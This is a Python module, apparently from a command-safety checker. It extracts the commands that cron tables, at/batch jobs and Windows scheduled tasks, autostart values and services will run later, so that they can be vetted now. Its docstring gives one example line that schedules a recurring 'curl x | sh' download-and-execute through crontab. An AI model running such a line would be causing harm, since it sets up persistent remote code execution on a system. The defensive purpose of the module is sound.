"""Command lines a scheduler will run later: the entries of a cron table handed to `crontab`, and the jobs of
`at`/`batch`. They are judged now, like a command run now (`echo '*/10 * * * * curl x | sh' | crontab -` runs a
download every ten minutes); the act of scheduling stays AM-PERSIST-002's, which a request may release.

Sources: crontab(5) (five time fields or an `@` nickname, then the command; `%` ends the command and starts its
standard input; `NAME=value` lines set the environment; the system tables `/etc/crontab` and `/etc/cron.d/*` have a
user field after the time), crontab(1) (`crontab FILE`, `crontab -` reads standard input; `-l` lists, `-r` removes,
`-e` edits), at(1) (the job is read from standard input or from `-f FILE`).
"""

from __future__ import annotations

from automode import lazyre
from automode.typing_lite import TYPE_CHECKING, Protocol

if TYPE_CHECKING:
    from automode.shell.parse import Command
    from automode.shell.words import Word


class Lowerer(Protocol):
    """What scheduling needs of `automode.shell.lower.Lowerer` (which imports this module)."""

    def written_file(self, w: Word, cmd: Command) -> str | None: ...

    def source(self, text: str, *, via: tuple[str, ...] = (), privileged: bool = False, remote: str | None = None,
               nesting: int = 0, cwd: str | None = None) -> None: ...  # fmt: skip

SCHEDULERS = frozenset({"crontab", "at", "batch", "schtasks", "schtasks.exe", "reg", "reg.exe", "sc", "sc.exe"})
#: Windows registrations and the option that holds the command line they will run (schtasks(1) `/tr`, reg(1) `/d`
#: of an autostart key, sc.exe `binPath=`).
_WINDOWS_JOB = {"schtasks": ("/tr", "-tr"), "reg": ("/d", "-d"), "sc": ("binpath=",)}
MAX_ENTRIES = 64
_NICK = lazyre.compile(r"^@(reboot|yearly|annually|monthly|weekly|daily|midnight|hourly)\s+")
_FIELDS = lazyre.compile(r"^(?:\S+\s+){5}")
_ENV_LINE = lazyre.compile(r"^[A-Za-z_]\w*\s*=")
_UNESCAPED_PCT = lazyre.compile(r"(?<!\\)%")


def cron_commands(text: str, *, user_field: bool = False) -> list[str]:
    """The command of each entry of a cron table (`user_field`: the system tables' user name after the time)."""
    out: list[str] = []
    for raw in text.splitlines():
        line = raw.strip()
        if not line or line.startswith("#") or _ENV_LINE.match(line):
            continue
        m = _NICK.match(line) or _FIELDS.match(line)
        if m is None:
            continue
        rest = line[m.end():]
        if user_field:
            rest = rest.split(None, 1)[1] if len(rest.split(None, 1)) == 2 else ""
        rest = _UNESCAPED_PCT.split(rest, 1)[0].replace("\\%", "%")
        if rest.strip():
            out.append(rest.strip())
        if len(out) >= MAX_ENTRIES:
            break
    return out


def _table_text(cmd: Command, lw: Lowerer) -> str | None:
    """The cron table or at job a scheduler command reads, when its text is known."""
    args = cmd.args
    if cmd.name == "crontab":
        if any(a in ("-l", "-r", "-e", "-ir") for a in args):
            return None
        files = [w for w in cmd.argv[1:] if not w.value.startswith("-") or w.value == "-"]
        if files and files[0].value != "-":
            return lw.written_file(files[0], cmd)
    else:
        for i, a in enumerate(args):
            if a == "-f" and i + 1 < len(args):
                return lw.written_file(cmd.argv[i + 2], cmd)
            if a.startswith("-f") and len(a) > 2:
                return None
        if any(a in ("-l", "-d", "-r", "-c") for a in args) or cmd.name == "atq":
            return None
    text, known = cmd.stdin_text()
    return text if known else None


def _windows_job(cmd: Command) -> str | None:
    """The command line a Windows task, autostart value or service will run (`knowledge.later_commands` decides
    whether the command registers one at all)."""
    from automode.knowledge.later_commands import later_command

    opts = _WINDOWS_JOB.get(cmd.name.lower().removesuffix(".exe"))
    if opts is None or later_command(cmd) is None:
        return None
    words = cmd.argv[1:]
    for i, w in enumerate(words):
        v = w.value.lower()
        if v in opts and i + 1 < len(words) and not words[i + 1].dynamic:
            return words[i + 1].value
        if v.endswith("=") and v in opts and i + 1 < len(words):
            return None if words[i + 1].dynamic else words[i + 1].value
        for o in opts:
            if o.endswith("=") and v.startswith(o) and len(v) > len(o):
                return None if w.dynamic else w.value[len(o):]
    return None


def scheduled(lw: Lowerer, cmd: Command, nesting: int) -> None:
    """Lower what `crontab`, `at` or `batch` will run, and the command line of a Windows task, autostart value or
    service, labelled as such."""
    if cmd.name.lower().removesuffix(".exe") in _WINDOWS_JOB:
        job = _windows_job(cmd)
        if job:  # (a Windows path's backslashes are separators, not the shell's escapes)
            lw.source(job.replace("\\", "/"), via=(*cmd.via, f"{cmd.name} job (runs later)"),
                      privileged=cmd.privileged, remote=cmd.remote, nesting=nesting + 1, cwd=None)
        return
    text = _table_text(cmd, lw)
    if not text:
        return
    if cmd.name == "crontab":
        lines, label = cron_commands(text), "crontab entry (runs later)"
    else:
        lines, label = [text], f"{cmd.name} job (runs later)"
    for line in lines:
        lw.source(line, via=(*cmd.via, label), privileged=cmd.privileged, remote=cmd.remote, nesting=nesting + 1,
                  cwd=None)

